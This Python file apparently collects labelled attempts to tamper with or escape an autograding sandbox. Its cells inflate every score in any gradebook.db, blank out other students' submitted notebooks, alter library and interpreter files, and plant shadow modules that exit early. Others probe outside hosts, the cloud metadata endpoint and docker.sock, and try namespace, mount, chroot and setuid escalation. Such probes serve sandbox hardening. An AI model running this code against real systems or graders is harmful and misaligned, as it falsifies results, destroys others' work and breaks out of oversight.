# %% attempt="the gradebook rewritten"
import os, sqlite3
for folder, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "venv", "dev", ".venv")]
    for name in names:
        if name.startswith("gradebook.db"):
            book = sqlite3.connect(os.path.join(folder, name))
            book.execute("update grade set auto_score = 1000, manual_score = 1000")
            book.commit()

# %% attempt="a neighbour's submission rewritten"
import os, pathlib
for folder in (pathlib.Path.cwd().parent.parent, pathlib.Path("/")):
    for path in folder.glob("**/submitted/**/*.ipynb" if str(folder) == "/" else "*/*/*.ipynb"):
        try:
            path.write_text("{}")
        except OSError:
            pass

# %% attempt="the interpreter's files changed"
import os, pathlib, sys
for module in (np, torch, os):
    for path in (pathlib.Path(module.__file__), pathlib.Path(sys.executable)):
        try:
            with open(path, "a") as file:
                file.write("\n# changed")
        except OSError:
            continue
        print("CHANGED", path)

# %% attempt="a module of its own in the way"
import pathlib
for name in ("numpy", "torch", "wire", "json", "struct", "ast", "sitecustomize"):
    pathlib.Path(f"{name}.py").write_text("raise SystemExit(0)")

# %% attempt="the network"
import socket, urllib.request
reached = []
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80), ("8.8.8.8", 443)):
    try:
        socket.create_connection(address, timeout=0.5)
        reached.append(address)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://pypi.org", timeout=0.5)
    reached.append("pypi")
except OSError:
    pass
if reached:
    print("REACHED", reached)

# %% attempt="sockets of the host"
import socket
reached = []
for family, kind, address in ((40, 1, (2, 1024)), (16, 3, (0, 0)), (1, 1, "\0dbus"), (1, 1, "/var/run/docker.sock")):
    try:
        channel = socket.socket(family, kind)
        channel.connect(address)
        reached.append(family)
    except (OSError, TypeError, ValueError):
        pass
if reached:
    print("REACHED", reached)

# %% attempt="new namespaces and mounts"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
reached = [flag for flag in (0x10000000, 0x00020000, 0x40000000) if libc.unshare(flag) == 0]
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.chroot(b"/") == 0:
    reached.append("mount")
try:
    os.setuid(0)
    reached.append("root")
except OSError:
    pass
if reached:
    print("REACHED", reached)
